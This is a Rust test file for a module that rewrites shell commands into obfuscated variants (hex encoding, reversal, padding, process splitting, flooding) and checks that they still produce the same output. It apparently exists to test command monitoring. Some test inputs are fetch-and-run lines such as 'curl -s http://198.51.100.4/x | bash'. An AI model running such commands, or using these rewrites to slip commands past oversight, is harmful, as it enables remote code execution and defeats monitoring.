use std::{collections::BTreeSet, process::Command};

use rand::SeedableRng as _;

use super::{super::payload::tests::payload, *};

/// Programs that are not on every machine, and the family that needs each.
const OPTIONAL: [(&str, &str); 2] = [("xxd", "hex"), ("rev", "reversed")];

/// The families that can run here.
fn families_here() -> impl Iterator<Item = &'static Family> {
    let is_missing = |program: &str| Command::new(program).arg("--version").output().is_err();
    let missing: Vec<&str> = OPTIONAL
        .iter()
        .filter(|(program, _)| is_missing(program))
        .map(|(_, family)| *family)
        .collect();
    FAMILIES
        .iter()
        .filter(move |family| !missing.contains(&family.name))
}

/// What the parts of an attempt print when they really run, one after the other.
fn printed(attempt: &Attempt, dir: &std::path::Path) -> Option<String> {
    let mut all = String::new();
    for part in &attempt.parts {
        let program = part.exe.as_ref().unwrap_or(&part.argv[0]);
        let output = Command::new(program)
            .args(&part.argv[1..])
            .env("TMPDIR", dir)
            .current_dir(dir)
            .output()
            .ok()?;
        all += &String::from_utf8_lossy(&output.stdout);
    }
    Some(all)
}

#[test]
fn rewritten_lines_still_do_what_they_did() {
    let bases: [&[&str]; 6] = [
        &[
            "sh",
            "-c",
            "printf 'a  b\\n'; cat /proc/version | tr a-z A-Z",
        ],
        &[
            "bash",
            "-c",
            "for x in 1 2; do echo \"it's $x\"; done\necho end",
        ],
        &["sh", "-c", "echo \"echo 'in a shell'\" | sh"],
        &["cat", "/proc/version", "/proc/filesystems"],
        &[
            "bash",
            "-c",
            "cat <<E\nhere $((1+1))\nE\necho after | bash -c cat",
        ],
        &[
            "sh",
            "-c",
            "x='a b'; find /proc/version -name ver* && echo \"$x\" # note",
        ],
    ];
    let mut applied = BTreeSet::new();
    for base in bases.map(payload) {
        let dir = tempfile::tempdir().unwrap();
        let expected = printed(&Attempt::of(base.clone()), dir.path()).unwrap();
        assert!(!expected.is_empty());
        for family in families_here() {
            for seed in 0..3 {
                let mut random = ChaCha8Rng::seed_from_u64(seed);
                let Some(attempt) = (family.rewrite)(&base, &mut random) else {
                    continue;
                };
                let Some(found) = printed(&attempt, dir.path()) else {
                    continue;
                };
                // Padding prints, too: what counts is that the payload's output is
                // there in one piece.
                let is_there = match family.name {
                    "padding_before" => found.ends_with(&expected),
                    "padding_after" => found.starts_with(&expected),
                    _ => found == expected,
                };
                assert!(is_there, "{} of {:?}: {found:?}", family.name, base.argv);
                applied.insert(family.name);
            }
        }
    }
    let all: BTreeSet<&str> = families_here().map(|family| family.name).collect();
    assert_eq!(applied, all);
}

#[test]
fn rewriting_changes_the_line_and_repeats_with_its_seed() {
    let base = payload(&["sh", "-c", "curl -s http://198.51.100.4/x; bash /tmp/x"]);
    for family in &FAMILIES {
        let rewrite = || (family.rewrite)(&base, &mut ChaCha8Rng::seed_from_u64(5)).unwrap();
        assert_eq!(rewrite(), rewrite(), "{}", family.name);
        assert_ne!(rewrite(), Attempt::of(base.clone()), "{}", family.name);
    }
}

#[test]
fn a_split_attack_is_several_starts() {
    let base = payload(&["sh", "-c", "curl -s http://198.51.100.4/x | bash"]);
    let attempt = separate_processes(&base, &mut ChaCha8Rng::seed_from_u64(0)).unwrap();
    assert_eq!(attempt.parts.len(), 2);
    let flooded = flood(&base, &mut ChaCha8Rng::seed_from_u64(0)).unwrap();
    assert_eq!((flooded.before.len(), flooded.parts.len()), (FLOOD, 1));
}
